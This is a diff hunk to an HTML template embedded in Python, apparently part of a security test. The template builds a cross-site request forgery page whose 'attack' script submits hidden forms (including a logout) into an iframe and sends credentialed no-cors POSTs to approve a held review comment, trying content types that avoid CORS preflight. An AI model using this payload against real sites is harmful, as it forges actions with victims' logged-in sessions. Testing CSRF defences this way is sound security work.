@@ -77,7 +77,9 @@ FORMS = """<!doctype html>
 <form id="leave" method="post" action="{ours}/review/logout" target="sink"></form>
 <script>
 const attack = async () => {{
-  for (const form of document.forms) {{ form.submit(); await new Promise((done) => setTimeout(done, 150)); }}
+  const sink = document.querySelector("iframe");
+  for (const form of document.forms)
+    await new Promise((done) => {{ sink.onload = done; form.submit(); }});
   for (const type of ["text/plain", "application/x-www-form-urlencoded"])
     await fetch("{ours}/review/comments/{held}/approve", {{ method: "POST", mode: "no-cors", credentials: "include",
       headers: {{ "Content-Type": type }}, body: '{{"revision": 1}}' }}).catch(() => 0);
